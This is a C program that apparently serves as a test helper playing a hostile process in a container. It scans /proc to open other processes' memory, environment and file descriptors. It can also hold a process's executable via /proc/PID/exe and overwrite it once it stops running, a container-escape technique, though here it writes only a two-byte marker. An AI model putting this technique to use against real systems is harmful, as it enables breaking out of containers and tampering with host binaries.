/*
 * Somebody hostile in a container: looks at every process that appears and tries to get at it before it is its command.
 *
 * peek look NAME: opens what lies in /proc/PID of processes called NAME, and says what could be opened while they were called so.
 * peek overwrite NAME: holds on to the program of a process whose path contains NAME, and overwrites it as soon as nobody runs it.
 * As pid 1 it lets all others run for some microseconds at a time, so that no program ends before it was looked at.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char *const files[] = {"exe", "cwd", "root", "mem", "maps", "environ", "fd/0", "fd/3", "fd/4"};

/* comm is for everybody to read: 1 when the process is called so. */
static int is_called(const char *pid, const char *name)
{
	char path[300], text[32];
	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	const int fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	const ssize_t n = read(fd, text, sizeof(text) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	text[n - 1] = 0;
	return strcmp(text, name) == 0;
}

static void look(const char *pid, const char *name)
{
	char path[300], target[256];
	static unsigned long seen;
	if (!is_called(pid, name))
		return;
	if (seen++ == 0)
		printf("seen\n");
	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, files[i]);
		const int fd = open(path, O_RDONLY | O_NONBLOCK);
		const ssize_t n = readlink(path, target, sizeof(target) - 1);
		if ((fd >= 0 || n >= 0) && is_called(pid, name)) {
			target[n < 0 ? 0 : n] = 0;
			printf("got %s %s\n", files[i], target);
		}
		if (fd >= 0)
			close(fd);
	}
	fflush(stdout);
}

static void overwrite(const char *pid, const char *name)
{
	char path[300], target[256];
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	const ssize_t n = readlink(path, target, sizeof(target) - 1);
	if (n < 0)
		return;
	target[n] = 0;
	const int held = strstr(target, name) == NULL ? -1 : open(path, O_RDONLY);
	if (held < 0)
		return;
	kill(-1, SIGCONT);
	printf("held %s\n", target);
	fflush(stdout);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	int fd;
	do /* ETXTBSY: it runs */
		fd = open(path, O_WRONLY);
	while (fd < 0 && errno == ETXTBSY);
	if (fd >= 0 && write(fd, "#!", 2) == 2)
		printf("overwritten %s\n", target);
	else
		printf("refused %s: %s\n", target, strerror(errno));
	fflush(stdout);
	exit(0);
}

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	DIR *const proc = opendir("/proc");
	if (proc == NULL)
		return 1;
	const int self = getpid();
	printf("ready\n");
	fflush(stdout);
	for (;;) {
		const struct dirent *entry;
		rewinddir(proc);
		const int steps = strcmp(argv[1], "overwrite") == 0;
		if (steps)
			kill(-1, SIGSTOP);
		while ((entry = readdir(proc)) != NULL) {
			const int pid = atoi(entry->d_name);
			if (pid <= 0 || pid == self)
				continue;
			if (strcmp(argv[1], "look") == 0)
				look(entry->d_name, argv[2]);
			else
				overwrite(entry->d_name, argv[2]);
		}
		if (steps)
			kill(-1, SIGCONT);
		for (int i = 0; steps && i < 20; i++)
			getppid();
	}
}
